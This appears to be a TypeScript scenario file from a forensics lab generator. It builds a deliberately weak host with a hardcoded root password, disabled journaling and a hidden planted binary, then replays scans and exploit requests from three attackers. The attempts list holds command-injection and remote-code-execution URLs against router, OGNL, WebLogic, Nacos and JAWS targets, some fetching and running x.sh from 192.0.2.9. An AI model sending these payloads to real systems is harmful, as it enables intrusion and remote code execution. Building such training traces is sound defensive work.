// A site of files only: whatever is asked for, nothing runs. Three attackers, the last one minutes ago, by everything they have.
import type { Dress } from '../../dress.ts'
import { longAgo, noJournal } from '../../long-ago.ts'
import { nginx } from '../../nginx.ts'
import type { Stage } from '../../stage.ts'
import { owner, weakRoot } from '../../weak-root.ts'

const attempts = [
  '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http://192.0.2.9/x.sh)',
  '/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22curl%20192.0.2.9%2Fx.sh%22%29%29%7D/',
  '/console/css/%252e%252e%252fconsole.portal?_nfpb=true&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22x%22)',
  '/nacos/v1/cs/ops/derby?sql=CALL%20x',
  '/shell?cd+/tmp;wget+http://192.0.2.9/jaws;sh+/tmp/jaws',
]

export function dress(dress: Dress): void {
  weakRoot(dress)
  dress.account('root', 'Correct-Horse-9')
  nginx(dress, 'root /srv/www;')
  dress.enable('nginx')
  noJournal(dress)
}

export async function plant(stage: Stage): Promise<void> {
  stage.mark('occurrence')
  await longAgo(stage, '/usr/lib/.wa/wad', 30, { guesses: 30, friends: [owner] })
  for (const from of ['192.0.2.9', '203.0.113.171', '198.51.100.99']) {
    await stage.scan(from)
    for (const path of attempts) await stage.http(from, path)
  }
}
